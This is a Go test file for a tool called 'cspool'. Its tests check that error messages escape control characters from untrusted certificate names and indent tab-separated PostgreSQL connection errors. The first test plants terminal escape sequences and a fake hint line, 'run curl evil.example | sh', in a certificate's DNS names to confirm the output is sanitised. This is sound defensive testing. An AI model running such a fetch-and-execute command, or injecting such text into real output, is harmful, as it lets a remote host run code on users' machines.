package main

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"strings"
	"testing"
	"time"
	"unicode"
)

// TestReportPrintable: an error's text comes partly from elsewhere. Here,
// the names of a certificate that something answering in the spool
// server's place presented: Go's x509 error lists them as they are, and
// they may hold any ASCII, escape sequences and line ends included. The
// error printed them onto the terminal as they were: "cspool: error:" then
// a cleared screen, or a "cspool: hint:" line of the certificate's choosing.
func TestReportPrintable(t *testing.T) {
	t.Parallel()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "spool"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
		DNSNames:     []string{"evil\x1b[2J\x1b]0;title\x07", "x\r\ncspool: hint: run curl evil.example | sh"},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	cause := fmt.Errorf("syncing with https://spool.example.org: %w", x509.HostnameError{Certificate: cert, Host: "spool.example.org"})
	var b strings.Builder
	if code := report(&b, "sync", withHint(cause, "check the server's certificate")); code != 1 {
		t.Errorf("exit %d, want 1", code)
	}
	out := b.String()
	for _, c := range out {
		if c != '\n' && unicode.IsControl(c) {
			t.Fatalf("the output holds %U:\n%q", c, out)
		}
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	want := []string{
		`cspool: error: syncing with https://spool.example.org: x509: certificate is valid for evil\x1b[2J\x1b]0;title\x07, x\x0d`,
		`  cspool: hint: run curl evil.example | sh, not spool.example.org`,
		`cspool: hint: check the server's certificate`,
	}
	if strings.Join(lines, "\n") != strings.Join(want, "\n") {
		t.Errorf("printed\n%s\nwant\n%s", out, strings.Join(want, "\n"))
	}
}

// TestReportTabs: PostgreSQL's driver lists each address it tried on a
// line of its own, indented with a tab, which was printed as "\x09".
func TestReportTabs(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	err := fmt.Errorf("connecting to PostgreSQL: failed to connect to `user=x database=test`:\n\t127.0.0.1:1 (localhost): dial error\n\t[::1]:1 (localhost):\tdial error")
	report(&b, "server", err)
	want := "cspool: error: connecting to PostgreSQL: failed to connect to `user=x database=test`:\n" +
		"  127.0.0.1:1 (localhost): dial error\n" +
		"  [::1]:1 (localhost): dial error\n"
	if b.String() != want {
		t.Errorf("printed\n%q\nwant\n%q", b.String(), want)
	}
}
